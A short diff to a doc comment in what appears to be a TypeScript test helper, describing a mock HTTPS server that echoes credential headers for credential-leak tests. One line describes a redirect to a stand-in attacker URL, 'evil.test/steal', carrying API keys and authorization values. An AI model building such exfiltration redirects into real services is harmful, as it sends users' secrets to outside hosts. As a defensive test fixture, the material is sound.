@@ -7,7 +7,7 @@ import type { TestPki } from './pki.js';
 
 /**
  * An HTTPS upstream (test CA leaves) that hands back every credential header it receives in the
- * ways real APIs do, for CONTRACT §7 tests. `creds` below = the values of authorization,
+ * ways real APIs do, for the tests of docs/contract.md#never-leak. `creds` below = the values of authorization,
  * x-api-key, x-custom-auth and x-goog-api-key joined by `|`. Paths:
  * - `/redirect`: 302, `Location: https://evil.test/steal?c=<creds>`, plus `X-Echo-Auth: <creds>`
  * - `/cookie`: 200 with `Set-Cookie: session=<creds>` (twice, as an array)
